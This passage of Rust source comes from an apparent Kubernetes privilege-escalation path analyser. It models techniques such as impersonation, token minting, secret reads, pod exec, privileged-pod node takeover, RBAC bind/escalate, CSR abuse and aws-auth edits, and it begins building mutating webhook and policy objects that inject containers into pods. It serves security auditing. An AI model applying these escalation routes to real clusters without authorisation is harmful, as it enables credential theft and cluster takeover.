//! The escalation techniques: stable IDs, and for each the successors of a state (candidates from the actor's
//! rules, each confirmed with exact requests by [`Actor::allows`]).

use serde::Serialize;

use std::collections::HashMap;

use super::{Edge, Graph, Held, Hub, Identity, IdentityKind, ImpersonationMode, State, Vertex};
use crate::model::request::MASTERS_GROUP;
use crate::model::request::parse_sa_username;
use crate::rbac::Request;
use crate::rbac::access::Access;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
pub enum Technique {
    #[serde(rename = "P-IMP-USER")]
    ImpersonateUser,
    #[serde(rename = "P-IMP-GROUP")]
    ImpersonateGroup,
    #[serde(rename = "P-IMP-SA")]
    ImpersonateServiceAccount,
    #[serde(rename = "P-CIMP-USER-INFO")]
    ConstrainedUserInfo,
    #[serde(rename = "P-CIMP-SA")]
    ConstrainedServiceAccount,
    #[serde(rename = "P-CIMP-ARBITRARY-NODE")]
    ConstrainedArbitraryNode,
    #[serde(rename = "P-CIMP-ASSOCIATED-NODE")]
    ConstrainedAssociatedNode,
    #[serde(rename = "P-TOKEN-REQUEST")]
    TokenRequest,
    #[serde(rename = "P-SECRET-READ")]
    SecretRead,
    #[serde(rename = "P-SECRET-CREATE")]
    SecretCreate,
    #[serde(rename = "P-POD-CREATE")]
    PodCreate,
    #[serde(rename = "P-WORKLOAD-CREATE")]
    WorkloadCreate,
    #[serde(rename = "P-POD-EXEC")]
    PodExec,
    #[serde(rename = "P-POD-ATTACH")]
    PodAttach,
    #[serde(rename = "P-POD-EPHEMERAL")]
    PodEphemeral,
    #[serde(rename = "P-POD-UPDATE")]
    PodUpdate,
    #[serde(rename = "P-NODE-PROXY")]
    NodeProxy,
    #[serde(rename = "P-NODE-SA-TOKEN")]
    NodeServiceAccountToken,
    #[serde(rename = "P-NODE-TAKEOVER")]
    NodeTakeover,
    #[serde(rename = "P-RBAC-BIND")]
    RbacBind,
    #[serde(rename = "P-RBAC-ESCALATE")]
    RbacEscalate,
    #[serde(rename = "P-CSR-CLIENT")]
    CsrClient,
    #[serde(rename = "P-CSR-KUBELET")]
    CsrKubelet,
    #[serde(rename = "P-WEBHOOK-MUTATE")]
    WebhookMutate,
    #[serde(rename = "P-MAP-MUTATE")]
    MapMutate,
    #[serde(rename = "P-AWS-AUTH")]
    AwsAuth,
}

impl Technique {
    /// Every technique, in the order of docs/paths.md.
    pub const ALL: &[Technique] = &[
        Technique::ImpersonateUser,
        Technique::ImpersonateGroup,
        Technique::ImpersonateServiceAccount,
        Technique::ConstrainedUserInfo,
        Technique::ConstrainedServiceAccount,
        Technique::ConstrainedArbitraryNode,
        Technique::ConstrainedAssociatedNode,
        Technique::TokenRequest,
        Technique::SecretRead,
        Technique::SecretCreate,
        Technique::PodCreate,
        Technique::WorkloadCreate,
        Technique::PodExec,
        Technique::PodAttach,
        Technique::PodEphemeral,
        Technique::PodUpdate,
        Technique::NodeProxy,
        Technique::NodeTakeover,
        Technique::NodeServiceAccountToken,
        Technique::RbacBind,
        Technique::RbacEscalate,
        Technique::CsrClient,
        Technique::CsrKubelet,
        Technique::WebhookMutate,
        Technique::MapMutate,
        Technique::AwsAuth,
    ];
}

/// Workload controllers whose pods run as a ServiceAccount their spec names: (group, resource).
pub const WORKLOADS: &[(&str, &str)] = &[
    ("apps", "deployments"),
    ("apps", "replicasets"),
    ("apps", "statefulsets"),
    ("apps", "daemonsets"),
    ("batch", "jobs"),
    ("batch", "cronjobs"),
    ("", "replicationcontrollers"),
];

const RBAC_GROUP: &str = "rbac.authorization.k8s.io";
const AUTHN_GROUP: &str = "authentication.k8s.io";
const CSR_GROUP: &str = "certificates.k8s.io";
const ADMISSION_GROUP: &str = "admissionregistration.k8s.io";
const CLIENT_SIGNER: &str = "kubernetes.io/kube-apiserver-client";
const KUBELET_SIGNER: &str = "kubernetes.io/kube-apiserver-client-kubelet";
/// The name kubectl-sa gives the objects a step creates (CSRs, Secrets, bindings).
pub const OBJECT_NAME: &str = "kubectl-sa-path";

/// The exact requests a step needs, all of them allowed; the first one's grant is the step's grant.
pub fn preconditions(technique: Technique, to: &State, e: &Edge) -> Vec<Request> {
    use Technique::*;
    let r = Request::resource;
    let (ns, name) = (e.namespace.as_str(), e.name.as_str());
    match technique {
        ImpersonateUser => vec![r("impersonate", "", "users", "", &to.identity.name, "")],
        ImpersonateGroup => vec![
            r("impersonate", "", "groups", "", &to.identity.name, ""),
            r("impersonate", "", "users", "", &to.identity.user, ""),
        ],
        ImpersonateServiceAccount => {
            vec![r("impersonate", "", "serviceaccounts", "", &to.identity.name, &to.identity.namespace)]
        }
        ConstrainedUserInfo => vec![r("impersonate:user-info", AUTHN_GROUP, "users", "", &to.identity.name, "")],
        ConstrainedServiceAccount => vec![r(
            "impersonate:serviceaccount",
            AUTHN_GROUP,
            "serviceaccounts",
            "",
            &to.identity.name,
            &to.identity.namespace,
        )],
        ConstrainedArbitraryNode => {
            vec![r("impersonate:arbitrary-node", AUTHN_GROUP, "nodes", "", &to.identity.name, "")]
        }
        ConstrainedAssociatedNode => vec![r("impersonate:associated-node", AUTHN_GROUP, "nodes", "", "*", "")],
        TokenRequest => vec![r("create", "", "serviceaccounts", "token", &to.identity.name, &to.identity.namespace)],
        SecretRead => match e.variant {
            "list" => vec![r("list", "", "secrets", "", "", ns)],
            _ => vec![r("get", "", "secrets", "", name, ns)],
        },
        SecretCreate => vec![r("create", "", "secrets", "", "", ns), r("get", "", "secrets", "", name, ns)],
        PodCreate => vec![r("create", "", "pods", "", "", ns)],
        WorkloadCreate => {
            let (group, resource) = WORKLOADS.iter().find(|(_, res)| *res == e.variant).copied().unwrap_or(("", ""));
            vec![r("create", group, resource, "", "", ns)]
        }
        PodExec => vec![r("create", "", "pods", "exec", name, ns)],
        PodAttach => vec![r("create", "", "pods", "attach", name, ns)],
        PodEphemeral => vec![r(e.variant, "", "pods", "ephemeralcontainers", name, ns)],
        // `kubectl patch` reads the pod first.
        PodUpdate => vec![r("patch", "", "pods", "", name, ns), r("get", "", "pods", "", name, ns)],
        NodeProxy => vec![r(e.variant, "", "nodes", "proxy", name, "")],
        NodeTakeover => vec![r("create", "", "pods", "", "", ns)],
        WebhookMutate => vec![r("create", ADMISSION_GROUP, "mutatingwebhookconfigurations", "", "", "")],
        MapMutate => vec![
            r("create", ADMISSION_GROUP, "mutatingadmissionpolicies", "", "", ""),
            r("create", ADMISSION_GROUP, "mutatingadmissionpolicybindings", "", "", ""),
        ],
        NodeServiceAccountToken => Vec::new(),
        RbacBind => match ns {
            "" => vec![
                r("bind", RBAC_GROUP, "clusterroles", "", name, ""),
                r("create", RBAC_GROUP, "clusterrolebindings", "", "", ""),
            ],
            _ => vec![
                r("bind", RBAC_GROUP, e.variant, "", name, ns),
                r("create", RBAC_GROUP, "rolebindings", "", "", ns),
            ],
        },
        RbacEscalate => {
            let resource = if ns.is_empty() { "clusterroles" } else { "roles" };
            let mut needs = vec![
                r("escalate", RBAC_GROUP, resource, "", name, ns),
                r(e.variant, RBAC_GROUP, resource, "", name, ns),
            ];
            // `kubectl patch` reads the object first; the update is made with `kubectl replace --raw`, which does not.
            if e.variant == "patch" {
                needs.push(r("get", RBAC_GROUP, resource, "", name, ns));
            }
            needs
        }
        CsrClient | CsrKubelet => {
            vec![
                r("approve", CSR_GROUP, "signers", "", e.variant, ""),
                r("create", CSR_GROUP, "certificatesigningrequests", "", "", ""),
                r("update", CSR_GROUP, "certificatesigningrequests", "approval", name, ""),
                r("get", CSR_GROUP, "certificatesigningrequests", "", name, ""),
            ]
        }
        // `kubectl edit` reads the ConfigMap first.
        AwsAuth => vec![
            r(e.variant, "", "configmaps", "", "aws-auth", "kube-system"),
            r("get", "", "configmaps", "", "aws-auth", "kube-system"),
        ],
    }
}

/// A candidate edge before its preconditions are decided.
struct Candidate {
    technique: Technique,
    to: Vertex,
    namespace: String,
    name: String,
    variant: &'static str,
    /// The requests that decide it; None: the technique's [`preconditions`] for an identity target.
    needs: Option<Vec<Request>>,
}

/// Every edge out of identity `s`, each confirmed with its exact preconditions. A grant for every name of a
/// namespace (or of the cluster) leads to a hub; a grant for some names leads to those identities.
pub fn successors(graph: &mut Graph, s: usize) -> Vec<Edge> {
    use crate::rbac::access::Cell;
    let state = graph.state(s).clone();
    let actor = graph.actor(s);
    let cluster = graph.cluster;
    let world = &graph.world;
    let r = Request::resource;
    let mut out: Vec<Candidate> = Vec::new();
    let held = |identity: Identity| Vertex::Identity(State { identity, held: Held::Credential, augmented: None });
    let legacy = |identity: Identity| {
        Vertex::Identity(State {
            identity,
            held: Held::Impersonated { by: None, mode: ImpersonationMode::Legacy },
            augmented: None,
        })
    };
    let constrained = |identity: Identity, mode| {
        Vertex::Identity(State { identity, held: Held::Impersonated { by: Some(s), mode }, augmented: None })
    };
    let hub = |technique, h: Hub, ns: &str, name: &str, variant: &'static str, needs: Vec<Request>| Candidate {
        technique,
        to: Vertex::Hub(h),
        namespace: ns.into(),
        name: name.into(),
        variant,
        needs: Some(needs),
    };
    let direct = |technique, to: Vertex, ns: &str, name: &str, variant: &'static str| Candidate {
        technique,
        to,
        namespace: ns.into(),
        name: name.into(),
        variant,
        needs: None,
    };
    let anywhere = |a: &Access| a.cluster || !a.namespaces.is_empty() || !a.names.is_empty();
    // The ServiceAccounts a grant on serviceaccounts names: (namespace, name) pairs that exist in the input.
    let named_service_accounts = |a: &Access| -> Vec<(String, String)> {
        let mut out = Vec::new();
        for (scope, names) in &a.names {
            for name in names {
                if scope == "cluster" {
                    for ns in &world.namespaces {
                        if cluster.service_account(ns, name).is_some() {
                            out.push((ns.clone(), name.clone()));
                        }
                    }
                } else if cluster.service_account(scope, name).is_some() {
                    out.push((scope.clone(), name.clone()));
                }
            }
        }
        out
    };
    let sa_hub =
        |ns: Option<&str>, impersonated: bool| Hub::ServiceAccounts { namespace: ns.map(str::to_string), impersonated };

    if state.held == Held::Credential {
        // Legacy impersonation of ServiceAccounts, then the constrained mode where legacy does not already reach.
        let a = actor.access("impersonate", "", "serviceaccounts", "", true);
        let legacy_everywhere = a.cluster;
        if a.cluster {
            let needs = vec![r("impersonate", "", "serviceaccounts", "", "", "")];
            out.push(hub(Technique::ImpersonateServiceAccount, sa_hub(None, true), "", "", "", needs));
        }
        for ns in &a.namespaces {
            let needs = vec![r("impersonate", "", "serviceaccounts", "", "", ns)];
            out.push(hub(Technique::ImpersonateServiceAccount, sa_hub(Some(ns), true), ns, "", "", needs));
        }
        for (ns, name) in named_service_accounts(&a) {
            out.push(direct(
                Technique::ImpersonateServiceAccount,
                legacy(Identity::service_account(&ns, &name)),
                &ns,
                &name,
                "",
            ));
        }
        if !legacy_everywhere {
            let c = actor.access("impersonate:serviceaccount", AUTHN_GROUP, "serviceaccounts", "", true);
            let mut pairs: Vec<(String, String)> = named_service_accounts(&c);
            let namespaces: Vec<&String> =
                if c.cluster { world.namespaces.iter().collect() } else { c.namespaces.iter().collect() };
            for ns in namespaces.into_iter().filter(|ns| !a.namespaces.contains(*ns)) {
                pairs.extend(cluster.service_accounts_in(ns).map(|sa| (ns.clone(), sa.name.clone())));
            }
            for (ns, name) in pairs {
                let to = constrained(Identity::service_account(&ns, &name), ImpersonationMode::ServiceAccount);
                out.push(direct(Technique::ConstrainedServiceAccount, to, &ns, &name, ""));
            }
        }
        // Users: legacy, then constrained (user-info) where legacy does not reach.
        let users = actor.access("impersonate", "", "users", "", false);
        let impersonable = |u: &String| parse_sa_username(u).is_none() && !u.starts_with("system:node:");
        if users.cell_in("") == Cell::Yes {
            let needs = vec![r("impersonate", "", "users", "", "", "")];
            out.push(hub(Technique::ImpersonateUser, Hub::Users { impersonated: true }, "", "", "", needs));
        } else {
            for u in users.names_in("").iter().filter(|u| world.users.contains(*u) && impersonable(u)) {
                out.push(direct(Technique::ImpersonateUser, legacy(Identity::user(u)), "", u, ""));
            }
            let c = actor.access("impersonate:user-info", AUTHN_GROUP, "users", "", false);
            let names: Vec<String> = if c.cell_in("") == Cell::Yes {
                world.users.iter().cloned().collect()
            } else {
                c.names_in("").into_iter().collect()
            };
            for u in names.iter().filter(|u| impersonable(u) && !users.names_in("").contains(*u)) {
                let to = constrained(Identity::user(u), ImpersonationMode::UserInfo);
                out.push(direct(Technique::ConstrainedUserInfo, to, "", u, ""));
            }
        }
        // Groups (legacy only: constrained impersonation refuses system:masters), asserted with a username the
        // identity may impersonate.
        let username = if users.cell_in("") == Cell::Yes {
            Some(OBJECT_NAME.to_string())
        } else {
            users.names_in("").into_iter().next()
        };
        if let Some(username) = username {
            let g = actor.access("impersonate", "", "groups", "", false);
            if g.cell_in("") == Cell::Yes {
                let needs =
                    vec![r("impersonate", "", "groups", "", "", ""), r("impersonate", "", "users", "", &username, "")];
                let h = Hub::Groups { user: username.clone(), impersonated: true };
                out.push(hub(Technique::ImpersonateGroup, h, "", "", "", needs));
            } else {
                for group in g.names_in("").iter().filter(|g| world.groups.contains(*g)) {
                    let to = legacy(Identity::group(&username, group));
                    out.push(direct(Technique::ImpersonateGroup, to, "", group, ""));
                }
            }
        }
        // The node of a pod this ServiceAccount runs in: its mounted token is pod-bound and names the node.
        if state.identity.kind == IdentityKind::ServiceAccount
            && anywhere(&actor.access("impersonate:associated-node", AUTHN_GROUP, "nodes", "", false))
        {
            for (node, pods) in &world.pods_by_node {
                if pods.iter().any(|(ns, _, sa)| *ns == state.identity.namespace && *sa == state.identity.name) {
                    let to = constrained(Identity::node(node), ImpersonationMode::AssociatedNode);
                    out.push(direct(Technique::ConstrainedAssociatedNode, to, "", node, ""));
                }
            }
        }
        let a = actor.access("impersonate:arbitrary-node", AUTHN_GROUP, "nodes", "", false);
        let nodes: Vec<String> = if a.cell_in("") == Cell::Yes {
            world.pods_by_node.keys().cloned().collect()
        } else {
            a.names_in("").into_iter().collect()
        };
        for node in nodes {
            let to = constrained(Identity::node(&node), ImpersonationMode::ArbitraryNode);
            out.push(direct(Technique::ConstrainedArbitraryNode, to, "", &node, ""));
        }
    }

    // Credentials minted for a ServiceAccount.
    let a = actor.access("create", "", "serviceaccounts", "token", true);
    if a.cluster {
        let needs = vec![r("create", "", "serviceaccounts", "token", "", "")];
        out.push(hub(Technique::TokenRequest, sa_hub(None, false), "", "", "", needs));
    }
    for ns in &a.namespaces {
        let needs = vec![r("create", "", "serviceaccounts", "token", "", ns)];
        out.push(hub(Technique::TokenRequest, sa_hub(Some(ns), false), ns, "", "", needs));
    }
    for (ns, name) in named_service_accounts(&a) {
        out.push(direct(Technique::TokenRequest, held(Identity::service_account(&ns, &name)), &ns, &name, ""));
    }
    // Legacy token Secrets: read one by name, or every one of a namespace.
    if !world.token_secrets.is_empty() {
        for verb in ["get", "list"] {
            let a = actor.access(verb, "", "secrets", "", true);
            if a.cluster {
                let needs = vec![r(verb, "", "secrets", "", "", "")];
                out.push(hub(Technique::SecretRead, Hub::TokenSecrets { namespace: None }, "", "", verb, needs));
            }
            for ns in a.namespaces.iter().filter(|ns| world.token_secrets.contains_key(*ns)) {
                let needs = vec![r(verb, "", "secrets", "", "", ns)];
                let h = Hub::TokenSecrets { namespace: Some(ns.clone()) };
                out.push(hub(Technique::SecretRead, h, ns, "", verb, needs));
            }
            if verb == "get" && !a.names.is_empty() {
                for (ns, secrets) in &world.token_secrets {
                    let names = a.names_in(ns);
                    for (secret, sa) in secrets.iter().filter(|(secret, _)| names.contains(secret)) {
                        let to = held(Identity::service_account(ns, sa));
                        out.push(direct(Technique::SecretRead, to, ns, secret, "get"));
                    }
                }
            }
        }
    }
    // Pods, workloads and token Secrets created in a namespace run as (or are filled for) any ServiceAccount there.
    let mut creators: Vec<(Technique, &str, &str, &str)> = vec![(Technique::PodCreate, "", "pods", "")];
    creators
        .extend(WORKLOADS.iter().map(|(group, resource)| (Technique::WorkloadCreate, *group, *resource, *resource)));
    for (technique, group, resource, variant) in creators {
        let a = actor.access("create", group, resource, "", true);
        if a.cluster {
            let needs = vec![r("create", group, resource, "", "", "")];
            out.push(hub(technique, sa_hub(None, false), "", "", variant, needs));
        }
        for ns in &a.namespaces {
            let needs = vec![r("create", group, resource, "", "", ns)];
            out.push(hub(technique, sa_hub(Some(ns), false), ns, "", variant, needs));
        }
    }
    let creates = actor.access("create", "", "secrets", "", true);
    if anywhere(&creates) {
        let gets = actor.access("get", "", "secrets", "", true);
        let name_in = |ns: &str| -> Option<String> {
            if gets.cell_in(ns) == Cell::Yes {
                Some(OBJECT_NAME.to_string())
            } else {
                gets.names_in(ns).into_iter().next()
            }
        };
        if creates.cluster
            && let Some(name) = name_in("")
        {
            let needs = vec![r("create", "", "secrets", "", "", ""), r("get", "", "secrets", "", &name, "")];
            out.push(hub(Technique::SecretCreate, sa_hub(None, false), "", &name, "", needs));
        }
        for ns in &creates.namespaces {
            if let Some(name) = name_in(ns) {
                let needs = vec![r("create", "", "secrets", "", "", ns), r("get", "", "secrets", "", &name, ns)];
                out.push(hub(Technique::SecretCreate, sa_hub(Some(ns), false), ns, &name, "", needs));
            }
        }
    }
    // Pods that run as another ServiceAccount (its token is in the container).
    if !world.pods_by_namespace.is_empty() {
        for (technique, verb, sub) in [
            (Technique::PodExec, "create", "exec"),
            (Technique::PodAttach, "create", "attach"),
            (Technique::PodEphemeral, "patch", "ephemeralcontainers"),
            (Technique::PodEphemeral, "update", "ephemeralcontainers"),
            (Technique::PodUpdate, "patch", ""),
        ] {
            let a = actor.access(verb, "", "pods", sub, true);
            let needs_in = |ns: &str| {
                let mut needs = vec![r(verb, "", "pods", sub, "", ns)];
                if technique == Technique::PodUpdate {
                    needs.push(r("get", "", "pods", "", "", ns));
                }
                needs
            };
            if a.cluster {
                out.push(hub(technique, Hub::Pods { namespace: None }, "", "", verb, needs_in("")));
            }
            for ns in a.namespaces.iter().filter(|ns| world.pods_by_namespace.contains_key(*ns)) {
                let needs = needs_in(ns);
                out.push(hub(technique, Hub::Pods { namespace: Some(ns.clone()) }, ns, "", verb, needs));
            }
            if !a.names.is_empty() {
                for (ns, pods) in &world.pods_by_namespace {
                    let names = a.names_in(ns);
                    for (pod, sa) in pods.iter().filter(|(pod, _)| names.contains(pod)) {
                        out.push(direct(technique, held(Identity::service_account(ns, sa)), ns, pod, verb));
                    }
                }
            }
        }
        // The kubelet API of a node reaches the containers of every pod on it.
        for verb in ["get", "create"] {
            if anywhere(&actor.access(verb, "", "nodes", "proxy", false)) {
                for node in world.pods_by_node.keys() {
                    let needs = vec![r(verb, "", "nodes", "proxy", node, "")];
                    out.push(hub(Technique::NodeProxy, Hub::NodePods { node: node.clone() }, "", node, verb, needs));
                }
            }
        }
    }
    // A privileged pod pinned to a node (nodeName) reads the kubelet's credentials from the host, where PodSecurity
    // admits it.
    if !world.pods_by_node.is_empty() {
        let a = actor.access("create", "", "pods", "", true);
        let namespace = world.privileged_namespaces.iter().find(|ns| a.cell_in(ns) == Cell::Yes);
        if let Some(ns) = namespace {
            let needs = vec![r("create", "", "pods", "", "", ns)];
            out.push(hub(Technique::NodeTakeover, Hub::Nodes, ns, "", "", needs));
        }
    }
    // Mutating admission: a webhook or a MutatingAdmissionPolicy that adds a container to the pods created from
    // now on, which then runs with their ServiceAccount (the input's pods: their controllers recreate them).
    if !world.pods_by_namespace.is_empty() {
        let needs = preconditions(Technique::WebhookMutate, &state, &Edge::default());
        out.push(hub(Technique::WebhookMutate, Hub::Pods { namespace: None }, "", "", "", needs));
        let needs = preconditions(Technique::MapMutate, &state, &Edge::default());
        out.push(hub(Technique::MapMutate, Hub::Pods { namespace: None }, "", "", "", needs));
    }
    // The Node authorizer: a node may create tokens for the ServiceAccounts of the pods bound to it. Impersonated
    // in a constrained mode, the impersonator must also be allowed `impersonate-on` for each token request.
    if state.identity.kind == IdentityKind::Node
        && let Some(pods) = world.pods_by_node.get(&state.identity.name)
    {
        let cluster_wide = r("create", "", "serviceaccounts", "token", "", "");
        match actor.impersonator_allows(&cluster_wide) {
            None => {
                let h = Hub::NodePods { node: state.identity.name.clone() };
                out.push(hub(Technique::NodeServiceAccountToken, h, "", "", "", Vec::new()));
            }
            Some(_) => {
                for (ns, pod, sa) in pods {
                    let token = r("create", "", "serviceaccounts", "token", sa, ns);
                    if actor.impersonator_allows(&token) == Some(true) {
                        let to = held(Identity::service_account(ns, sa));
                        out.push(Candidate {
                            needs: Some(Vec::new()),
                            ..direct(Technique::NodeServiceAccountToken, to, ns, pod, "")
                        });
                    }
                }
            }
        }
    }
    // Role writes that grant the target: bind (a role that already holds it) and escalate (a role already bound).
    // The binding names the identity that holds a credential, or the legacy-impersonated one.
    let (holder_identity, holder_held) = match state.held {
        Held::Impersonated { by: Some(by), .. } => (graph.state(by).identity.clone(), Held::Credential),
        held => (state.identity.clone(), held),
    };
    let target = graph.target.request();
    let target_ns = target.namespace().to_string();
    if anywhere(&actor.access("bind", RBAC_GROUP, "clusterroles", "", true)) {
        for name in &world.target_roles {
            let to = Vertex::Identity(State {
                identity: holder_identity.clone(),
                held: holder_held,
                augmented: Some(format!("ClusterRoleBinding {OBJECT_NAME} to ClusterRole {name}")),
            });
            out.push(direct(Technique::RbacBind, to, "", name, "clusterroles"));
            if !target_ns.is_empty() {
                let to = Vertex::Identity(State {
                    identity: holder_identity.clone(),
                    held: holder_held,
                    augmented: Some(format!("RoleBinding {target_ns}/{OBJECT_NAME} to ClusterRole {name}")),
                });
                out.push(direct(Technique::RbacBind, to, &target_ns, name, "clusterroles"));
            }
        }
    }
    let escalates = anywhere(&actor.access("escalate", RBAC_GROUP, "clusterroles", "", true))
        || anywhere(&actor.access("escalate", RBAC_GROUP, "roles", "", true));
    if escalates && actor.impersonator.is_none() {
        let user = state.identity.user_info();
        for id in crate::rbac::bindings_for_user(cluster, &user) {
            let b = cluster.binding(id);
            let Ok(role) = cluster.resolve_role(b) else { continue };
            if role.aggregation_selectors.is_some() {
                continue;
            }
            let scope_fits = b.kind == crate::model::BindingKind::ClusterRoleBinding
                || (!target_ns.is_empty() && b.namespace == target_ns);
            if !scope_fits {
                continue;
            }
            let role_ns = if b.role_ref.kind == "Role" { b.namespace.clone() } else { String::new() };
            for verb in ["patch", "update"] {
                let to = Vertex::Identity(State {
                    identity: state.identity.clone(),
                    held: state.held,
                    augmented: Some(format!("{} {} with the target's rule", b.role_ref.kind, b.role_ref.name)),
                });
                out.push(direct(Technique::RbacEscalate, to, &role_ns, &b.role_ref.name, verb));
            }
        }
    }
    // Client certificates from an approved CSR: any user or group but system:masters (CertificateSubjectRestriction).
    let approves = anywhere(&actor.access("approve", CSR_GROUP, "signers", "", false))
        && anywhere(&actor.access("create", CSR_GROUP, "certificatesigningrequests", "", false));
    if approves {
        for signer in [CLIENT_SIGNER, "kubernetes.io/*"] {
            let needs = csr_needs(signer);
            out.push(hub(
                Technique::CsrClient,
                Hub::Users { impersonated: false },
                "",
                OBJECT_NAME,
                signer,
                needs.clone(),
            ));
            let h = Hub::Groups { user: OBJECT_NAME.into(), impersonated: false };
            out.push(hub(Technique::CsrClient, h, "", OBJECT_NAME, signer, needs));
        }
        for signer in [KUBELET_SIGNER, "kubernetes.io/*"] {
            for node in world.pods_by_node.keys() {
                out.push(direct(Technique::CsrKubelet, held(Identity::node(node)), "", OBJECT_NAME, signer));
            }
        }
    }
    if world.eks {
        for verb in ["patch", "update"] {
            let to = held(Identity::group(OBJECT_NAME, MASTERS_GROUP));
            out.push(direct(Technique::AwsAuth, to, "kube-system", "aws-auth", verb));
        }
    }

    // Under constrained impersonation the impersonator's `impersonate-on` grants may name single objects, so a
    // hub's all-at-once request can be refused where its members' requests are allowed: decide member by member.
    if actor.impersonator.is_some() {
        out = out.into_iter().flat_map(|c| expand_hubs(graph, c)).collect();
    }
    let mut edges: Vec<Edge> = Vec::new();
    let mut seen = std::collections::HashSet::new();
    // Candidates share requests (the same CSR requests for every signer's users and groups): each is decided once.
    let mut decided: HashMap<Request, bool> = HashMap::new();
    for c in out {
        // Only the same state is no gain: an impersonated identity that obtains its own credential gains a lot.
        if c.to == Vertex::Identity(state.clone()) {
            continue;
        }
        let mut edge =
            Edge { technique: Some(c.technique), to: 0, namespace: c.namespace, name: c.name, variant: c.variant };
        let needs = match (c.needs, &c.to) {
            (Some(needs), _) => needs,
            (None, Vertex::Identity(to)) => preconditions(c.technique, to, &edge),
            (None, Vertex::Hub(_)) => unreachable!("hub candidates carry their requests"),
        };
        if !needs.into_iter().all(|r| *decided.entry(r).or_insert_with_key(|r| actor.allows(r))) {
            continue;
        }
        edge.to = graph.intern(c.to);
        if seen.insert(edge.to) {
            edges.push(edge);
        }
    }
    edges
}

/// A candidate into a hub as candidates into the hub's identities (through finer hubs), each decided by the
/// technique's own preconditions on the merged object (as [`Graph::steps_of`] merges a walk).
fn expand_hubs(graph: &Graph, c: Candidate) -> Vec<Candidate> {
    let Vertex::Hub(hub) = &c.to else { return vec![c] };
    let mut out = Vec::new();
    for (member, namespace, name) in members_of(graph, hub) {
        let merged = Candidate {
            technique: c.technique,
            to: member,
            namespace: if namespace.is_empty() { c.namespace.clone() } else { namespace },
            name: if c.name.is_empty() { name } else { c.name.clone() },
            variant: c.variant,
            needs: None,
        };
        out.extend(expand_hubs(graph, merged));
    }
    out
}

/// The requests of a CSR step, whoever the certificate names.
fn csr_needs(signer: &str) -> Vec<Request> {
    let r = Request::resource;
    vec![
        r("approve", CSR_GROUP, "signers", "", signer, ""),
        r("create", CSR_GROUP, "certificatesigningrequests", "", "", ""),
        r("update", CSR_GROUP, "certificatesigningrequests", "approval", OBJECT_NAME, ""),
        r("get", CSR_GROUP, "certificatesigningrequests", "", OBJECT_NAME, ""),
    ]
}

/// The members of a hub, each with the namespace and object it picks (a member may be a finer hub).
fn members_of(graph: &Graph, hub: &Hub) -> Vec<(Vertex, String, String)> {
    let cluster = graph.cluster;
    let world = &graph.world;
    let mut members: Vec<(Vertex, String, String)> = Vec::new();
    let identity = |identity: Identity, impersonated: bool| {
        let held = if impersonated {
            Held::Impersonated { by: None, mode: ImpersonationMode::Legacy }
        } else {
            Held::Credential
        };
        Vertex::Identity(State { identity, held, augmented: None })
    };
    match hub {
        Hub::ServiceAccounts { namespace: None, impersonated } => {
            for ns in &world.namespaces {
                let h = Hub::ServiceAccounts { namespace: Some(ns.clone()), impersonated: *impersonated };
                members.push((Vertex::Hub(h), ns.clone(), String::new()));
            }
        }
        Hub::ServiceAccounts { namespace: Some(ns), impersonated } => {
            for sa in cluster.service_accounts_in(ns) {
                members.push((
                    identity(Identity::service_account(ns, &sa.name), *impersonated),
                    ns.clone(),
                    String::new(),
                ));
            }
        }
        Hub::TokenSecrets { namespace: None } => {
            for ns in world.token_secrets.keys() {
                members.push((
                    Vertex::Hub(Hub::TokenSecrets { namespace: Some(ns.clone()) }),
                    ns.clone(),
                    String::new(),
                ));
            }
        }
        Hub::TokenSecrets { namespace: Some(ns) } => {
            for (secret, sa) in world.token_secrets.get(ns).into_iter().flatten() {
                members.push((identity(Identity::service_account(ns, sa), false), ns.clone(), secret.clone()));
            }
        }
        Hub::Pods { namespace: None } => {
            for ns in world.pods_by_namespace.keys() {
                members.push((Vertex::Hub(Hub::Pods { namespace: Some(ns.clone()) }), ns.clone(), String::new()));
            }
        }
        Hub::Pods { namespace: Some(ns) } => {
            for (pod, sa) in world.pods_by_namespace.get(ns).into_iter().flatten() {
                members.push((identity(Identity::service_account(ns, sa), false), ns.clone(), pod.clone()));
            }
        }
        Hub::NodePods { node } => {
            for (ns, pod, sa) in world.pods_by_node.get(node).into_iter().flatten() {
                members.push((identity(Identity::service_account(ns, sa), false), ns.clone(), pod.clone()));
            }
        }
        Hub::Nodes => {
            for node in world.pods_by_node.keys() {
                members.push((identity(Identity::node(node), false), String::new(), node.clone()));
            }
        }
        Hub::Users { impersonated } => {
            for u in &world.users {
                if *impersonated && (parse_sa_username(u).is_some() || u.starts_with("system:node:")) {
                    continue;
                }
                members.push((identity(Identity::user(u), *impersonated), String::new(), u.clone()));
            }
        }
        Hub::Groups { user, impersonated } => {
            for g in world.groups.iter().filter(|g| *impersonated || *g != MASTERS_GROUP) {
                members.push((identity(Identity::group(user, g), *impersonated), String::new(), g.clone()));
            }
        }
    }
    members
}

/// The members of a hub: edges without a technique, each naming the namespace and object it picks.
pub fn hub_members(graph: &mut Graph, hub: &Hub) -> Vec<Edge> {
    let members = members_of(graph, hub);
    let mut seen = std::collections::HashSet::new();
    let mut edges = Vec::new();
    for (vertex, namespace, name) in members {
        let to = graph.intern(vertex);
        if seen.insert(to) {
            edges.push(Edge { technique: None, to, namespace, name, variant: "" });
        }
    }
    edges
}

/// A MutatingWebhookConfiguration that sends every pod created in `namespace` to `$WEBHOOK_URL/mutate` (the shell
/// expands the variables).
fn mutating_webhook(namespace: &str) -> serde_json::Value {
    use serde_json::json;
    json!({
        "apiVersion": format!("{ADMISSION_GROUP}/v1"), "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": OBJECT_NAME},
        "webhooks": [{
            "name": format!("{OBJECT_NAME}.kubectl-sa.invalid"),
            "admissionReviewVersions": ["v1"], "sideEffects": "None", "failurePolicy": "Ignore",
            "clientConfig": {"url": "${WEBHOOK_URL}/mutate", "caBundle": "${WEBHOOK_CA_BUNDLE}"},
            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": namespace}},
            "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}]
        }]
    })
}

/// A MutatingAdmissionPolicy and its binding that add a container to every pod created in `namespace`.
fn mutating_policy(namespace: &str) -> serde_json::Value {
    use serde_json::json;
    let meta = json!({"name": OBJECT_NAME});
    let container = r#"Object.spec.containers{name: "kubectl-sa-path", image: "busybox", command: ["sleep", "3600"]}"#;
    let policy = json!({
